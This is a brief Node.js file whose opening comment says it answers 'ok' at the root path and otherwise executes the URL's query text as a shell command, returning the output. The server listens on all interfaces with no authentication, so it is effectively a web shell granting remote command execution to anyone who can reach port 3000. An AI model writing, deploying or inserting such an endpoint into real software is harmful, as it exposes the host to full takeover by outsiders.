// Responds with ok at /, and at /?COMMAND with the output of the shell command.
import http from 'node:http';
import { execSync } from 'node:child_process';
function output(command) {
  try {
    return execSync(command, { encoding: 'utf8', shell: '/bin/sh' });
  } catch (e) {
    return 'ended ' + e.status + ' ' + e.stdout;
  }
}
http.createServer((req, res) => {
  res.end(req.url === '/' ? 'ok' : output(decodeURIComponent(req.url.slice(2))));
}).listen(3000, '0.0.0.0');
